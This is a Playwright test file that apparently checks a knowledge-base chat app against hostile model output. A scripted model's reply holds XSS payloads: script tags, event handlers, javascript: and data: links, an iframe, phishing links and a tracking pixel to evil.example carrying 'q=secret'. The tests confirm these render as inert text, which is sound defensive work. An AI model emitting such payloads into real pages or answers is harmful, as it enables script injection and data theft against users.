"""Hostile content in a real browser: a KB with hostile card text and a scripted
OpenAI-compatible model whose replies carry script tags, event handlers, `javascript:` links,
Markdown links and bare URLs. The live DOM must show that no script ran, no link came from
model text, every link is an http(s) KB URL, and no internal title or metadata canary shows."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from citewall_evals.llm_server import Reply, ScriptedOpenAIServer

from .conftest import REPO_ROOT, CitewallServer, start_server, stop_server
from .ui import (
    PWNED_PROBE,
    BrowserTraps,
    anchors,
    ask,
    is_http,
    normalised,
    sign_in,
    sse_events,
)

HOSTILE_KB = REPO_ROOT / "kb" / "hostile" / "cards.jsonl"
CANARY = re.compile(r"CWLEAK[TM]-[A-Z0-9]+")

#: What the scripted model answers, whatever it is asked. It cites every context slot so that
#: internal cards are cited too (and must still never surface as sources).
HOSTILE_REPLY = (
    "Here is what I found [1]. <script>window.__pwned='script';alert('script')</script>\n\n"
    "<img src=x onerror=\"window.__pwned='img';alert('img')\"> Printing works again [2].\n\n"
    "[Click for help](javascript:window.__pwned='mdlink';alert('mdlink')) and "
    "[the official page](https://evil.example/phish) [3].\n\n"
    "<a href=\"javascript:window.__pwned='a';alert('a')\">billing</a> "
    '<a href="https://evil.example/anchor">anchor</a>\n\n'
    "Bare link: https://evil.example/bare and www.evil.example/www\n\n"
    "![pixel](https://evil.example/pixel.png?q=secret) ![x](javascript:alert('img2'))\n\n"
    "<iframe src=\"javascript:alert('iframe')\"></iframe>"
    "<svg onload=\"window.__pwned='svg';alert('svg')\"></svg>\n\n"
    '<a href="data:text/html,<script>alert(1)</script>">data</a> '
    "[ref]: javascript:alert('ref')\n\n"
    "<details open ontoggle=\"window.__pwned='details';alert('details')\">x</details> [4][5]"
)
EVIL_HOST = "evil.example"
#: The reply streams in 40-character deltas, 60 ms apart (cutting tags and links in half).
STREAMED_REPLY = Reply(
    chunks=[HOSTILE_REPLY[i : i + 40] for i in range(0, len(HOSTILE_REPLY), 40)],
    chunk_delay_s=0.06,
)


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CitewallServer]:
    kb = HOSTILE_KB if HOSTILE_KB.is_file() else Path(__file__).parent / "kb" / "small.jsonl"
    with ScriptedOpenAIServer(default=STREAMED_REPLY) as model:
        server = start_server(
            tmp_path_factory.mktemp("hostile"),
            [kb],
            {"eve": "member", "root": "admin"},
            {"CITEWALL_GENERATOR": "openai", "CITEWALL_OPENAI_BASE_URL": model.base_url},
        )
        try:
            yield server
        finally:
            stop_server(server)


def assert_nothing_ran(page: Page, traps: BrowserTraps) -> None:
    assert traps.dialogs == [], f"a script opened a dialog: {traps.dialogs}"
    assert page.evaluate("window.__badNodes") == [], "dangerous markup was inserted at some point"
    assert page.evaluate(PWNED_PROBE) is None, "a hostile script set window.__pwned"
    assert traps.page_errors == [], traps.page_errors


#: The admin pages' links to their own pages: a card or a conversation, by its (encoded) id.
ADMIN_PAGE = re.compile(r"/admin/(cards|conversations)/[A-Za-z0-9%._~-]+")


def assert_links_are_kb_links(
    page: Page, server: CitewallServer, scope: str = "#main", admin_pages: bool = False
) -> None:
    """Every link in the content area is a KB source URL (or, with ``admin_pages``, one of the
    admin's own card or conversation pages on this server); the header has only app paths."""
    kb = {normalised(u, page) for u in server.external_urls}
    for a in anchors(page, "header"):
        attr = a["attr"] or ""
        assert attr.startswith("/") and not attr.startswith("//"), a
    for a in anchors(page, scope):
        attr = a["attr"] or ""
        if admin_pages and ADMIN_PAGE.fullmatch(attr):
            assert a["href"] == server.base_url + attr, a
            continue
        assert is_http(a["href"]), f"non-http(s) link: {a}"
        assert a["href"] in kb, f"a link that is not a KB source URL (model text?): {a}"
        assert EVIL_HOST not in (a["href"] or "")


def assert_no_dangerous_markup(page: Page) -> None:
    """Where model and KB text is shown (turns, sources, popovers, conversation titles), only
    plain elements: no script, frame, image, form or event-handler/style/src attribute."""
    found = page.evaluate(
        """() => {
          const DANGEROUS_ATTRIBUTES = ['src', 'srcdoc', 'style', 'action', 'formaction'];
          const bad = [];
          for (const el of document.querySelectorAll('.turns *, .conversations *, .admin-page *')) {
            const tag = el.tagName.toLowerCase();
            if (tag === 'details' && el.classList.contains('raw')) continue;
            // A control the app itself renders (data-app-control); its contents are still read.
            if (el.hasAttribute('data-app-control')) continue;
            if (['script', 'iframe', 'img', 'object', 'embed', 'details', 'form', 'style']
                .includes(tag)) bad.push(tag);
            if (tag === 'svg' && !el.classList.contains('chart')) bad.push('svg');
            for (const attr of el.attributes) {
              const name = attr.name.toLowerCase();
              if (name.startsWith('on') || DANGEROUS_ATTRIBUTES.includes(name))
                bad.push(tag + '[' + name + ']');
            }
          }
          return bad;
        }"""
    )
    assert found == [], f"markup from model text reached the DOM: {found}"


def assert_no_canary(page: Page) -> None:
    html = page.content()
    text = page.locator("body").inner_text()
    assert not CANARY.search(html), CANARY.search(html)
    assert not CANARY.search(text)


def test_hostile_model_and_kb_cannot_run_script_or_make_links(
    context: BrowserContext,
    hostile_server: CitewallServer,
    screenshot: Callable[[Any, str], None],
) -> None:
    page = context.new_page()
    traps = BrowserTraps().attach(page)
    sign_in(page, hostile_server.base_url, hostile_server.tokens["eve"])
    result = ask(page, "Label printing fails and the packing slip images are broken, what now?")
    final = json.loads(sse_events(result.stream_body)[-1][1])
    answer = page.locator("li.turn-assistant").first.locator("[data-testid=answer]")

    # The answer streamed: deltas arrived over time and partial text was on screen (half-cut
    # tags included) before the final event.
    samples: list[str] = page.evaluate("window.__streamSamples")
    assert result.token_lead_ms() > 500, result.chunks
    assert len(samples) >= 3, samples
    assert all(len(s) < len(answer.inner_text()) + 5 for s in samples)

    # The hostile prose did reach the page, as inert text.
    text = answer.inner_text()
    assert EVIL_HOST in text, "the model's text should be shown (as plain text)"
    assert "<script>" in text or "window.__pwned" in text
    assert not re.search(r"\[\d+\]", text), "citation markers must be stripped"
    assert answer.locator("a").count() == 0, "a link was made from model text"

    # Open every source popover: each link is a verified KB URL that opens safely.
    chips = page.locator(".chip")
    assert chips.count() == len(final["sources"])
    for i in range(chips.count()):
        chips.nth(i).click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_be_visible()
        link = dialog.locator("a")
        expect(link).to_have_count(1)
        assert link.get_attribute("target") == "_blank"
        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
        expect(dialog.locator(".relevance-hint")).to_contain_text("No relevance score")
        assert_links_are_kb_links(page, hostile_server)
        assert_no_canary(page)
        page.keyboard.press("Escape")
    screenshot(page, "hostile-member")

    assert_nothing_ran(page, traps)
    assert_links_are_kb_links(page, hostile_server)
    assert_no_dangerous_markup(page)
    assert_no_canary(page)

    # History reload renders the same stored answer, still inert.
    page.reload()
    expect(page.locator("li.turn-assistant")).to_have_count(1)
    assert page.locator("li.turn-assistant [data-testid=answer]").inner_text() == text
    assert_nothing_ran(page, traps)
    assert_links_are_kb_links(page, hostile_server)
    assert_no_dangerous_markup(page)
    assert_no_canary(page)


def test_hostile_conversation_in_the_admin_view_stays_inert(
    context: BrowserContext,
    hostile_server: CitewallServer,
    screenshot: Callable[[Any, str], None],
) -> None:
    member = context.new_page()
    sign_in(member, hostile_server.base_url, hostile_server.tokens["eve"])
    ask(member, "How do I contact billing support?")
    member.close()

    page = context.new_page()
    traps = BrowserTraps().attach(page)
    sign_in(
        page, hostile_server.base_url, hostile_server.tokens["root"], path="/admin/conversations"
    )
    page.locator("table tbody a").first.click()
    expect(page.locator("[data-testid=admin-answer]").first).to_be_visible()
    admin_text = page.locator("[data-testid=admin-answer]").first.inner_text()
    assert EVIL_HOST in admin_text
    assert re.search(r"\[\d+\]", admin_text), "admins see the markers"
    screenshot(page, "hostile-admin")
    assert_nothing_ran(page, traps)
    assert_links_are_kb_links(page, hostile_server, scope=".admin-page", admin_pages=True)
    assert_no_dangerous_markup(page)
